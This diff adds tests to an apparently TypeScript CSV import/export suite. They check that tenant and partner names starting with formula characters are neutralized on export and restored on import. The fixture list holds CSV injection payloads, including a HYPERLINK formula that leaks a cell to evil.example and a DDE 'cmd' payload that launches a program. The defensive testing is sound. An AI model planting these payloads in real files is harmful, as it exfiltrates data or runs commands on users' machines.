@@ -27,6 +27,16 @@ const HEADER =
   'tenant_id,tenant_name,customer_name,workload_code,l1_status,delivery_channel,fm_upn,fm_aad_object_id,partner_name,engagement_start_date,estimate,basis';
 const T1 = '11111111-2222-4333-8444-555555555555';
 const T2 = '22222222-3333-4444-8555-666666666666';
+const T3 = '33333333-4444-4555-8666-777777777777';
+/** Each begins with a character a spreadsheet reads as the start of a formula (OWASP). */
+const FORMULA_NAMES = [
+  '=HYPERLINK("https://evil.example/?leak="&A1,"Contoso")',
+  '+1 Partners',
+  '-2 Partners',
+  '@SUM(A1:A9) Partners',
+  "'=already quoted Partners",
+  "=cmd|' /C calc'!A0",
+];
 
 /** Line numbers in comments: the header is line 1. */
 const BAD_FILE = [
@@ -303,13 +313,34 @@ describe.each(engines)('import and export on %s', (engine) => {
         },
       ],
     );
+    // Names a spreadsheet would run as formulas (issue 13, item 4): neutralized on the way out,
+    // restored exactly on the way in; one already begins with a quote.
+    await store.registerTenant(
+      { id: T3, name: 'tailspin.onmicrosoft.com', customerName: FORMULA_NAMES[0] as string },
+      FORMULA_NAMES.slice(1).map((partner, i) => ({
+        code: (['EXO', 'SPO', 'TEAMS', 'OD', 'PBI', 'INTUNE'] as const)[i] ?? 'EXO',
+        l1Status: 'in_progress',
+        channel: { type: 'frp' as const, partnerName: partner },
+      })),
+    );
     const first = workloadsCsv(await store.exportSnapshot());
-    expect(parseCsv(first).length).toBe(1 + 16 + 2);
+    expect(parseCsv(first).length).toBe(1 + 16 + 2 + FORMULA_NAMES.length - 1);
+    for (const name of FORMULA_NAMES) {
+      expect(first).toContain(`"'${name.replaceAll('"', '""')}"`);
+      // No cell of the file begins with a formula character.
+      for (const record of parseCsv(first))
+        for (const field of record.fields) expect(field).not.toMatch(/^[=+\-@\t\r]/);
+    }
 
     const empty = await freshStore();
     try {
       const outcome = await importText(empty, first, { fileName: 'export.csv' });
-      expect(outcome).toMatchObject({ committed: true, accepted: 18, rejected: [] });
+      expect(outcome).toMatchObject({
+        committed: true,
+        accepted: 18 + FORMULA_NAMES.length - 1,
+        rejected: [],
+      });
+      expect((await empty.getTenant(T3))?.customerName).toBe(FORMULA_NAMES[0]);
       const second = workloadsCsv(await empty.exportSnapshot());
       expect(second).toBe(first);
       // And importing the export again changes nothing.
